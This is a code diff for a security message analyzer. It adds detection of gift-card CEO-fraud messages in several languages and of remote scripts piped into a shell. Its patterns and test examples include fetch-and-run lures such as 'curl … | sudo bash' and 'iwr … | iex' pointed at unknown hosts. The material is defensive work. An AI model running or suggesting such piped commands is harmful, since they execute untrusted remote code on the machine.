@@ -149,6 +149,17 @@ function giftCardScam(ctx: MessageContext): Finding | undefined {
   return undefined;
 }
 
+/**
+ * The same scam in the other languages the frame lexicon knows ("comprar 20 tarjetas regalo … envíame las fotos de los
+ * códigos, es urgente"): gift cards and a purchase, with their codes asked for or haste or secrecy; not a warning.
+ */
+function giftCardsAnyLanguage(ctx: MessageContext): Finding | undefined {
+  const said = (tag: string): boolean => mentions('message', ctx, tag);
+  if (!said('obj:giftcard') || !said('op:pay') || said('generic') || SCAM_TALK.test(ctx.text)) return undefined;
+  if (!said('risk:codes') && !(said('urgent') && said('safe:conceal'))) return undefined;
+  return { detail: 'gift cards to buy with their codes asked for', score: 8 };
+}
+
 const BANK_OBJ = /\b(?:bank(?:ing)? (?:details|account|info|information|instructions|accounts|data)|account (?:details|number|info)|routing (?:number|details)|iban|sort code|beneficiary|wire instructions|remittance (?:details|account|information|instructions)|payment (?:details|instructions|information|account)|direct deposit|payroll (?:account|details|info))\b/g;
 const CHANGE_VERB = /\b(?:change|changed|changing|update|updated|updating|switch|switched|amend|amended|replace|new|modify|modified|different|revised)\b/;
 const NEW_BANK = /\b(?:new|different) (?:bank|banking (?:partner|provider)|financial institution)\b|\b(?:switched|changed|moved) (?:banks|our bank(?:ing)?(?: account)?|financial institutions?)\b/;
@@ -757,6 +768,31 @@ function linkedExecutable(ctx: MessageContext): Finding | undefined {
   return undefined;
 }
 
+/** Programs that fetch a URL, and what they pipe into: a remote script run unseen ("curl … | sudo bash", "iwr … | iex"). */
+const FETCHERS = ['curl ', 'wget ', 'iwr ', 'irm ', 'invoke-webrequest', 'invoke-restmethod'];
+const INTO_SHELL = /^\| ?(?:sudo )?(?:(?:ba|z|da|k)?sh|iex|invoke-expression|python3?|perl)\b/;
+const FETCH_REACH = 300;
+function pipedScript(ctx: MessageContext): Finding | undefined {
+  const t = ctx.text;
+  const own = ctx.senderDomain !== undefined ? registrable(ctx.senderDomain) : undefined;
+  for (const f of FETCHERS) {
+    for (let at = t.indexOf(f), n = 0; at >= 0 && n < 8; at = t.indexOf(f, at + f.length), n++) {
+      const window = t.slice(at, at + FETCH_REACH);
+      const pipe = window.indexOf('|');
+      if (pipe < 0 || !INTO_SHELL.test(window.slice(pipe))) continue;
+      URL_RE.lastIndex = 0;
+      const url = URL_RE.exec(window.slice(0, pipe));
+      URL_RE.lastIndex = 0;
+      const host = url !== null ? stripPort(hostOf(url[0]).toLowerCase()) : '';
+      const reg = registrable(host) ?? host;
+      // the organisation's own or a vendor's well-known installer is how tools are normally set up
+      if (TRUSTED_HOSTS.has(reg) || (own !== undefined && reg === own) || PRIVATE_IP.test(host)) continue;
+      return { detail: `remote script piped into a shell${host !== '' ? ` (${host})` : ''}`, score: 7 };
+    }
+  }
+  return undefined;
+}
+
 function dangerousAttachment(ctx: MessageContext): Finding | undefined {
   let names = ctx.attachments;
   const t = ctx.text;
@@ -918,8 +954,8 @@ const messageAnalyzer: Analyzer<MessageContext> = {
   rules: [
     {
       id: 'M01', name: 'Gift-card purchase scam (CEO fraud)', primitive: 'MANIPULATION', score: 8,
-      keywords: ['card', 'itunes', 'google play', 'steam', 'e-gift', 'egift', 'razer'],
-      detect: giftCardScam,
+      keywords: ['card', 'itunes', 'google play', 'steam', 'e-gift', 'egift', 'razer', 'tarjeta', 'carte', 'karte', 'gutschein', 'carta regalo', 'carte regalo', 'cartão', 'cartões', 'vale-presente', 'cadeaukaart', 'cadeaubon', 'buono regalo'],
+      detect: (ctx) => giftCardScam(ctx) ?? giftCardsAnyLanguage(ctx),
       examples: {
         flag: [
           'Hi, I need you to buy 5 Apple gift cards ($200 each) for a client. Keep this between us and send me pictures of the codes.',
@@ -1111,14 +1147,20 @@ const messageAnalyzer: Analyzer<MessageContext> = {
     },
     {
       id: 'M24', name: 'Link to a program to install from an unknown host', primitive: 'PERSISTENCE', score: 7,
-      keywords: ['.exe', '.scr', '.msi', '.hta', '.jar', '.apk', '.ps1', '.bat', '.cmd', '.vbs', '.dmg', '.pkg', '.lnk', '.iso', '.img', '.appx', '.msix'],
-      detect: linkedExecutable,
+      keywords: ['.exe', '.scr', '.msi', '.hta', '.jar', '.apk', '.ps1', '.bat', '.cmd', '.vbs', '.dmg', '.pkg', '.lnk', '.iso', '.img', '.appx', '.msix', 'curl ', 'wget ', 'iwr ', 'irm ', 'invoke-'],
+      detect: (ctx) => linkedExecutable(ctx) ?? pipedScript(ctx),
       examples: {
-        flag: [{ value: '@channel IT asks everyone to install the new VPN client today: https://vpn-client-update.web.app/setup.exe', metadata: { to: '#all-company', channel: 'slack' } }],
+        flag: [
+          { value: '@channel IT asks everyone to install the new VPN client today: https://vpn-client-update.web.app/setup.exe', metadata: { to: '#all-company', channel: 'slack' } },
+          { value: 'Lgtm. Btw can you run `curl -sL https://git.io/JvRq2 | sudo bash` on the build box? It fixes the runner.', metadata: { to: '@devops-oncall', channel: 'slack' } },
+          'Para arreglar la VPN ejecuta: iwr http://198.51.100.23/fix.ps1 | iex',
+        ],
         pass: [
           { value: 'The new VPN client is on the IT portal: https://it.acme.com/downloads/vpn-setup.exe, install it when convenient.', metadata: { from: 'it@acme.com', to: 'all@acme.com' } },
           'Zoom update available: https://zoom.us/client/latest/ZoomInstaller.exe',
           'The build artifact is at https://ci.example.org/artifacts/app.js, no need to download it.',
+          { value: 'Health check for the new box: curl -s http://10.0.3.7:8080/healthz | jq .status', metadata: { to: '#ops' } },
+          { value: 'Our installer: curl -fsSL https://get.acme.io/install.sh | sh (signed, see docs)', metadata: { from: 'dev@acme.io', to: 'team@acme.io' } },
         ],
       },
     },
@@ -1350,7 +1392,7 @@ const messageAnalyzer: Analyzer<MessageContext> = {
       },
     },
   ],
-  auxPatterns: [...DELIVERY_PATTERNS, AGENT_SENDER, ID_ASK, VIA_FORM, LINKED_EXEC_PATH, RUN_ASK, /[?#]/, OWN_DATA, ATTACHMENT_NAME_SEPARATORS, 
+  auxPatterns: [...DELIVERY_PATTERNS, INTO_SHELL, AGENT_SENDER, ID_ASK, VIA_FORM, LINKED_EXEC_PATH, RUN_ASK, /[?#]/, OWN_DATA, ATTACHMENT_NAME_SEPARATORS, 
     ...SECRET_PATTERNS, ...MESSAGE_TEXT_PATTERNS, PERSONAL_WORDING, URGENCY, SECRECY, AUTHORITY, GIFT_NOUN, GIFT_VERB, GIFT_CODES, NUMWORD,
     BANK_OBJ, CHANGE_VERB, CHANGED_AFTER, LURE_STATE, LURE_NOUN, LURE_DIRECT, DISCLAIMER_ANCHOR, DISCLAIMER_WORD, SENSITIVE_WEAK_NOCONF,
     EXTORT_IF, SEXTORT, EXEC_FAVOUR, SELF_EXEC, PAY_VERB, LEAK_VERB, EXTORT_HAVE, MATERIAL, RANSOM_WORD, WALLET, DEADLINE, PAY_DEADLINE, TEXT_EXEC, ATTACH_WORD, /[\w-]/, IMPERSONATE,
